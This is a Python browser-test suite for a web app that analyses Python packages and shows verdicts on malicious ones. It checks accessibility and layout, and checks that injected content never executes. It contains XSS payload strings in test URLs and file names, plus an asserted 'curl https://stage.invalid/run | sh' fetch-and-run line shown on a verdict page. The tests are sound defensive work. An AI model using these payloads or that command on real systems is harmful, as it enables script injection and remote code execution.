"""Every page in a real browser: nothing of a package acts on it, everybody can read it."""

import re
from collections.abc import Callable
from pathlib import Path
from urllib.parse import quote

import pytest

from tests.browser.conftest import PHONE, OpenPage, Seeded
from tests.browser.looking import MOST_BYTES, SHIFTS, TRANSFERRED, Watched, serious
from tests.browser.seeding import BEACON, HONEST, HOSTILE, LOOKALIKE, SPRINKLED

_HOSTILE_FILE = "tidewater_utils-0.9.1.tar.gz"
_HONEST_FILE = "harbour_charts-1.2-py3-none-any.whl"
_SPRINKLED_FILE = "xss_everywhere-1.0-py3-none-any.whl"
_ODD_PATH = quote(f"xss_everywhere/<img src=x onerror=window.{BEACON}=1>.py")

# Address of every page, from what was seeded.
PAGES: dict[str, Callable[[Seeded], str]] = {
    "home": lambda _: "/",
    "search": lambda _: "/search",
    "verdicts": lambda _: "/verdicts",
    "project": lambda _: f"/projects/{HONEST}",
    "release": lambda _: f"/projects/{HONEST}/1.0",
    "project-rst": lambda _: "/projects/lanterns",
    "verdict-refused": lambda s: s.verdict(_HOSTILE_FILE),
    "verdict-admitted": lambda s: s.verdict(_HONEST_FILE),
    "report": lambda s: s.verdict(_HOSTILE_FILE, "/report"),
    "source": lambda s: s.verdict(
        _HOSTILE_FILE, "/source?path=tidewater_utils-0.9.1/setup.py&line=14"
    ),
    "changes": lambda s: s.verdict(_HONEST_FILE, "/changes"),
    "name": lambda _: f"/names/{LOOKALIKE}",
    "checks": lambda _: "/checks",
    "check": lambda _: "/checks/code-decode-exec",
    "unknown-project": lambda _: "/projects/nobody-has-it",
    "error": lambda _: "/nowhere",
}
SPRINKLED_PAGES: dict[str, Callable[[Seeded], str]] = {
    "search": lambda _: "/search?q=" + quote(f"<script>window.{BEACON}=1</script>"),
    "found": lambda _: "/search?q=xss",
    "markdown": lambda _: f"/projects/{SPRINKLED}/1.0",
    "rst": lambda _: f"/projects/{SPRINKLED}/1.1",
    "plain": lambda _: f"/projects/{SPRINKLED}/1.2",
    "verdict": lambda s: s.verdict(_SPRINKLED_FILE),
    "report": lambda s: s.verdict(_SPRINKLED_FILE, "/report"),
    "source": lambda s: s.verdict(_SPRINKLED_FILE, f"/source?path={_ODD_PATH}&line=4"),
    "no-source": lambda s: s.verdict(_SPRINKLED_FILE, f"/source?path=no{_ODD_PATH}"),
    "verdicts": lambda _: "/verdicts?q=" + quote('"><img src=x onerror=window.pwned=1>'),
    "error": lambda _: "/nowhere/" + quote(f"<script>window.{BEACON}=1</script>"),
}
_ACTING = (Path(__file__).parent / "acting.js").read_text()


@pytest.mark.parametrize("name", PAGES)
def test_everybody_can_read_it(name: str, open_page: OpenPage, seeded: Seeded) -> None:
    page = open_page("/health")
    watched = Watched(page, seeded.gate.url)
    page.goto(PAGES[name](seeded), wait_until="load")
    assert page.evaluate(SHIFTS) == 0
    assert 0 < page.evaluate(TRANSFERRED) <= MOST_BYTES
    assert serious(page) == []
    page.emulate_media(color_scheme="dark")
    assert [one for one in serious(page) if one.startswith("color-contrast")] == []
    page.set_viewport_size({"width": PHONE[0], "height": PHONE[1]})
    assert page.evaluate("document.documentElement.scrollWidth") <= PHONE[0]
    assert (watched.foreign, watched.unexpected) == ([], [])


@pytest.mark.parametrize("name", SPRINKLED_PAGES)
def test_nothing_of_a_package_acts(name: str, open_page: OpenPage, seeded: Seeded) -> None:
    page = open_page("/health")
    watched = Watched(page, seeded.gate.url)
    page.goto(SPRINKLED_PAGES[name](seeded), wait_until="load")
    for folded in page.locator("main details").all():
        folded.evaluate("one => { one.open = true; }")
    assert page.evaluate(_ACTING) == []
    # Nothing is left to the content security policy: there was nothing that it had to stop.
    assert (watched.foreign, watched.unexpected) == ([], [])
    assert "pwned" in page.content() or name in {"found", "no-source"}


def test_what_is_no_page_is_no_page(seeded: Seeded) -> None:
    told = seeded.gate.get(seeded.verdict(_SPRINKLED_FILE, ".md"))
    assert told.headers["content-type"].startswith("text/markdown")
    assert told.headers["x-content-type-options"] == "nosniff"
    assert not re.search(r"^(?!.*`).*<(script|img)", told.text.split("```")[0])


class TestUse:
    """Keyboard, themes, copying, and no script at all."""

    def test_a_key_leads_to_the_search_and_the_first_link_past_the_navigation(
        self, open_page: OpenPage
    ) -> None:
        page = open_page("/")
        page.keyboard.press("Tab")
        assert page.evaluate("document.activeElement.textContent") == "Skip to the content"
        page.keyboard.press("Enter")
        assert page.evaluate("document.activeElement.id") == "main"
        page.keyboard.press("/")
        page.keyboard.type("harbour")
        page.keyboard.press("Enter")
        page.wait_for_url("**/search?q=harbour")
        page.get_by_role("link", name=HONEST).click()
        page.wait_for_url(f"**/projects/{HONEST}")

    def test_a_theme_that_was_chosen_stays(self, open_page: OpenPage) -> None:
        page = open_page("/", color_scheme="light")
        before = page.evaluate("getComputedStyle(document.body).backgroundColor")
        page.get_by_role("button", name="Dark theme").click()
        page.goto("/search")
        assert page.evaluate("document.documentElement.dataset.theme") == "dark"
        assert page.evaluate("getComputedStyle(document.body).backgroundColor") != before

    def test_a_line_is_copied(self, open_page: OpenPage, seeded: Seeded) -> None:
        page = open_page("/", permissions=["clipboard-read", "clipboard-write"])
        page.locator("[data-copy=use-pip]").click()
        page.locator("#said", has_text="Copied").wait_for(state="attached")
        copied = page.evaluate("navigator.clipboard.readText()")
        assert copied == f"pip config set global.index-url {seeded.gate.simple}"

    def test_everything_is_there_without_a_script(
        self, open_page: OpenPage, seeded: Seeded
    ) -> None:
        page = open_page(seeded.verdict(_HOSTILE_FILE), java_script_enabled=False)
        assert "Secrets of the user are sent away" in page.inner_text("main")
        page.get_by_text("Layer 1, peeled out of it").click()
        assert page.get_by_text("Layer 2, peeled out of it").is_visible()
        assert page.get_by_role("img", name="Timeline of what happened").is_visible()
        assert "an SSH private key" in page.inner_text("main")

    def test_what_is_folded_is_printed(self, open_page: OpenPage, seeded: Seeded) -> None:
        page = open_page(seeded.verdict(_HOSTILE_FILE))
        page.evaluate("dispatchEvent(new Event('beforeprint'))")
        page.emulate_media(media="print")
        assert page.get_by_text("curl https://stage.invalid/run | sh").first.is_visible()
        assert not page.locator("header.top").is_visible()


def test_the_hostile_project_says_so_first(open_page: OpenPage) -> None:
    page = open_page(f"/projects/{HOSTILE}")
    assert page.get_by_text("A hidden payload is decoded and executed").first.is_visible()
